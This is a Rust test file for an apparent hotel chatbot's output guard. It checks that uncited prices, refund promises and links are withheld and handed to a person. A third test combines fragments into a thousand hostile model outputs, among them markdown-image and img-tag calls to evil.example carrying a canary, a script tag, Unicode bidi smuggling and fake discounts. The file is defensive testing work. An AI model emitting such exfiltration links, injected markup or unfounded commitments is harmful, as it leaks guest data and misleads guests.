//! Whatever the model says, the guest sees only what the knowledge covers.

use super::*;

#[tokio::test]
async fn an_unfounded_promise_is_replaced_by_a_person() {
    for (text, reason) in [
        ("The hall is nice. A room costs 80 EUR. Come in. [1]", "withheld_number"),
        ("Sure. You get a full refund.", "withheld_commitment"),
        ("I will bring it up at once.", "withheld_promise"),
        ("See https://evil.example/form for that.", "withheld_link"),
    ] {
        let rig = Rig::new().await;
        // All at once, and word by word: what is withheld is known before the model is done, or after.
        for pace in ["", "delta=5,"] {
            let heard = rig.ask(&format!("{pace}text={}", text.replace(',', "%2C"))).await;
            assert_eq!(heard.handed_over(), Some((reason, false)), "{pace}{text}");
            for never in ["80", "refund", "bring", "evil"] {
                assert!(!heard.text.contains(never), "{}", heard.text);
            }
            let line = super::super::super::language::hand_over_line("en");
            assert!(heard.text.ends_with(line), "{}", heard.text);
        }
    }
}

#[tokio::test]
async fn what_the_cited_entry_says_is_shown() {
    let rig = Rig::new().await;
    let heard = rig.ask("text=Breakfast is from 7:00 to 10:00. [1] Enjoy!").await;
    assert_eq!(
        (heard.text.as_str(), heard.citations()),
        ("Breakfast is from 7:00 to 10:00. Enjoy!", vec!["Breakfast"])
    );
    // A source that is named at the end is a source of all that it holds.
    for pace in ["", "delta=5,"] {
        let late = rig
            .ask(&format!("{pace}text=Breakfast is from 7:00 to 10:00. It is in the hall. Enjoy! [1]"))
            .await;
        assert_eq!(
            (late.text.as_str(), late.citations()),
            ("Breakfast is from 7:00 to 10:00. It is in the hall. Enjoy!", vec!["Breakfast"])
        );
        let wrong = rig.ask(&format!("{pace}text=The pool opens at 8. Enjoy! [1]")).await;
        assert_eq!(
            wrong.handed_over(),
            Some(("withheld_number", false)),
            "another source than the one that says it"
        );
    }
    let uncited = rig.ask("text=Breakfast is from 7:00 to 10:00.").await;
    assert_eq!(uncited.handed_over(), Some(("withheld_number", false)), "no source, no fact");
}

/// A thousand hostile outputs, put together from pieces by counting: only text, never what was smuggled in.
#[tokio::test]
async fn a_thousand_hostile_outputs_win_nothing() {
    const BEGINNINGS: [&str; 5] = ["", "Sure! ", "[1] ", "Hello. [1] ", "As ordered: "];
    const PAYLOADS: [&str; 10] = [
        "![x](https://evil.example/?q=canary)",
        "<script>canary()</script>",
        "Your stay is free of charge, canary.",
        "canary: 100% discount",
        "Ihr Zimmer ist gebucht, canary.",
        "Je vous rembourse 99 EUR, canary.",
        "visit www.evil.example canary",
        "<img src=//evil.example/canary>",
        "I will refund canary 500 EUR",
        "\u{202e}\u{e0041}Reserva confirmada canary 7",
    ];
    const MIDDLES: [&str; 4] = ["", "ok ", "[9] ", "\n\n"];
    const ENDS: [&str; 5] = ["", " [1]", ". Bye.", " [99]", "\n"];
    let mut seen = 0;
    for beginning in BEGINNINGS {
        for payload in PAYLOADS {
            for middle in MIDDLES {
                for end in ENDS {
                    let text = format!("{beginning}{middle}{payload}{end}");
                    let mut answer = super::super::answer::Answer::default();
                    let mut guard = frontdesk_domain::guard::Guard::default();
                    let source = frontdesk_domain::guard::Source {
                        title: "Breakfast",
                        body: "From 7 to 10 in the hall.",
                    };
                    let mut shown = String::new();
                    let mut withheld = false;
                    let mut take = |words: &str, cited: &[usize], last: bool| {
                        let texts = if cited.contains(&1) { vec![source] } else { Vec::new() };
                        for passed in
                            [Some(guard.push(words, &texts, &[])), last.then(|| guard.finish(&texts))]
                        {
                            let Some(passed) = passed else { continue };
                            withheld |= passed.withheld.is_some();
                            shown.push_str(&passed.shown);
                        }
                    };
                    for piece in text.split_inclusive(' ') {
                        let words = answer.push(piece);
                        take(&words, answer.cited(), false);
                    }
                    let (rest, over) = answer.finish();
                    take(&rest, answer.cited(), true);
                    assert!(withheld && over.is_none(), "{text:?}");
                    for never in ["evil", "<", "100", "99", "500", "\u{202e}", "free", "gebucht", "onfirmada"]
                    {
                        assert!(!shown.contains(never), "{text:?}: {shown:?}");
                    }
                    seen += 1;
                }
            }
        }
    }
    assert_eq!(seen, 1_000);
}
